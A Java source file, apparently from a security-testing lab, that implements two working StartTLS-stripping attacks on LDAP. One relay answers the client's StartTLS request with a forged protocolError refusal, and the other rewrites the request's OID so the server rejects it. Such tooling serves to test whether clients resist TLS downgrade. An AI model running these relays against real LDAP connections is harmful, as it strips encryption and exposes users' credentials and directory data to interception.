package io.plainsight.app.lab;

import io.plainsight.app.lab.Relay.Change;
import io.plainsight.app.lab.Relay.Framing;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/** Attacks on StartTLS inside LDAP, RFC 4511 section 4.14. Its clients send a request at a time, with numbers below 128. */
final class LdapAttacks {
    private static final String START_TLS = "1.3.6.1.4.1.1466.20037";
    /** Whose number is next; nobody has it. */
    private static final String NOBODYS = "1.3.6.1.4.1.1466.20099";

    private static final int MESSAGE_ID_OFFSET = 4;
    private static final byte[] NOTHING = {};

    private LdapAttacks() {}

    /** Answers the client's request itself, in the negative; the server hears nothing of it. */
    static Attack refuse() {
        return (client, upstream, number) -> {
            OutputStream toClient = client.getOutputStream();
            relay(client, upstream, message -> {
                if (!isStartTls(message)) {
                    return message;
                }
                toClient.write(refusal(message[MESSAGE_ID_OFFSET]));
                return NOTHING;
            });
        };
    }

    /** Overwrites the client's request, so that the server does not know what is asked of it. */
    static Attack overwriteRequest() {
        return (client, upstream, number) -> relay(
                client,
                upstream,
                message -> isStartTls(message)
                        ? text(message).replace(START_TLS, NOBODYS).getBytes(StandardCharsets.ISO_8859_1)
                        : message);
    }

    private static void relay(Socket client, Attack.Upstream upstream, Change ofClient) throws java.io.IOException {
        try (Socket server = upstream.open()) {
            Relay.join(client, server, Framing.RAW, ofClient, Framing.RAW, Change.NOTHING);
        }
    }

    private static boolean isStartTls(byte[] message) {
        return text(message).contains(START_TLS);
    }

    private static String text(byte[] message) {
        return new String(message, StandardCharsets.ISO_8859_1);
    }

    /**
     * An ExtendedResponse: LDAPMessage (30), messageID (02), extendedResp (78) of resultCode protocolError(2), as servers without
     * TLS answer, matchedDN and diagnosticMessage.
     */
    private static byte[] refusal(byte messageId) {
        return new byte[] {0x30, 12, 2, 1, messageId, 0x78, 7, 0x0a, 1, 2, 4, 0, 4, 0};
    }
}
